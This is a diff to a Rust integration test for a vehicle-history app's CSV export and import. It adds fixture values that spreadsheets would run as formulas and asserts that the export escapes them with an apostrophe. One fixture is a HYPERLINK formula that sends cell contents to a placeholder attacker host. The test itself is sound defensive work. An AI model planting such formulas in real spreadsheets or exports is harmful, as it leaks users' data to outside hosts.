@@ -254,6 +254,10 @@ async fn an_export_imported_into_a_new_vehicle_reproduces_the_history() {
         json!({"kind": "fuel", "occurredAt": "2025-04-02T10:00:00Z", "odometer": 38400,
             "costCents": 5230, "currency": "USD", "vendor": {"name": "Shell"},
             "details": {"volume": 12.345, "volumeUnit": "gal", "fullTank": false, "station": "Shell, Main St"}}),
+        // Text a spreadsheet would run as formulas (a dealer's webhook can send such a title).
+        json!({"kind": "repair", "occurredAt": "2025-05-01T10:00:00Z", "costCents": 100, "currency": "USD",
+            "title": "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"Invoice\")", "notes": "@SUM(1+1)",
+            "vendor": {"name": "+1-555-0100"}}),
     ] {
         let (status, _, answer) = post(
             &app,
@@ -264,7 +268,7 @@ async fn an_export_imported_into_a_new_vehicle_reproduces_the_history() {
         .await;
         assert_eq!(status, 201, "{answer}");
     }
-    app.timeline_of_len(&token, &original, 6).await;
+    app.timeline_of_len(&token, &original, 7).await;
     let response = app
         .get(
             &token,
@@ -283,15 +287,29 @@ async fn an_export_imported_into_a_new_vehicle_reproduces_the_history() {
         )
     );
 
+    // Formula-like text goes out behind a `'` (a spreadsheet shows it and runs nothing); the import takes
+    // the `'` off again (the copy's events equal the original's, below).
+    for guarded in [
+        "\"'=HYPERLINK(\"\"http://evil.example/?d=\"\"&A2,\"\"Invoice\"\")\"",
+        ",'@SUM(1+1),",
+        ",'+1-555-0100,",
+    ] {
+        assert!(csv.contains(guarded), "{guarded} not in {csv}");
+    }
+    assert!(
+        !csv.contains(",=HYPERLINK") && !csv.contains(",@SUM"),
+        "{csv}"
+    );
+
     let copy = app.register(&token, &vin(4)).await;
     let (status, _, report) = import(&app, &token, &copy, "", &csv).await;
     assert_eq!(status, 200, "{report}");
     assert_eq!(
         (report["format"].as_str(), report["imported"].as_u64()),
-        (Some("vwc"), Some(6))
+        (Some("vwc"), Some(7))
     );
     assert_eq!(report["errors"], json!([]));
-    app.timeline_of_len(&token, &copy, 6).await;
+    app.timeline_of_len(&token, &copy, 7).await;
     assert_eq!(
         events(&app, &token, &copy).await,
         events(&app, &token, &original).await
@@ -300,7 +318,7 @@ async fn an_export_imported_into_a_new_vehicle_reproduces_the_history() {
     let (_, _, again) = import(&app, &token, &copy, "", &csv).await;
     assert_eq!(
         (again["imported"].as_u64(), again["skipped"].as_u64()),
-        (Some(0), Some(6))
+        (Some(0), Some(7))
     );
 
     // Another organisation: 404 for export and import; bad input changes nothing.
@@ -337,7 +355,7 @@ async fn an_export_imported_into_a_new_vehicle_reproduces_the_history() {
     let (status, _, _) = import(&app, &viewer, &original, "", &csv).await;
     assert_eq!(status, 403);
     app.settle().await;
-    app.timeline_of_len_at_most(&token, &original, 6).await;
+    app.timeline_of_len_at_most(&token, &original, 7).await;
     app.stop().await;
 }
 
